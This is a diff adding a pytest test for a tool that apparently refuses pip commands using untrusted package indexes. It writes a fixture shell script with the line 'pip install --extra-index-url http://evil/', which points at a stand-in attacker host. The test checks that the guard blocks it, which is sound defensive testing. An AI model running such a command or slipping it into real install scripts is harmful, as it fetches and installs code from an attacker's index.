@@ -142,3 +142,15 @@ def test_masking_holds_for_passwords_with_url_characters(password: str) -> None:
     shown = redact(f"refused: https://bob:{password}@host.example/simple/ and more")
     assert "bob:****@host.example/simple/" in shown
     assert password not in shown
+
+
+def test_shell_script_files_are_read(tmp_path: Path) -> None:
+    script = tmp_path / "install.sh"
+    script.write_text("#!/bin/sh\n# pip install foo  (a comment)\necho 'multi\nline'\n"
+                      "pip install --extra-index-url http://evil/ \"$@\"\n")
+    script.chmod(0o755)
+    for argv in ([str(script), "foo"], ["sh", str(script)], ["bash", "-e", str(script)]):
+        refusal = _refused(argv)
+        assert refusal is not None and f"refused: {script}" in refusal, argv
+    script.write_text("#!/bin/sh\npip install \"$@\"  # --extra-index-url in a comment\n")
+    assert _refused([str(script), "foo"]) is None
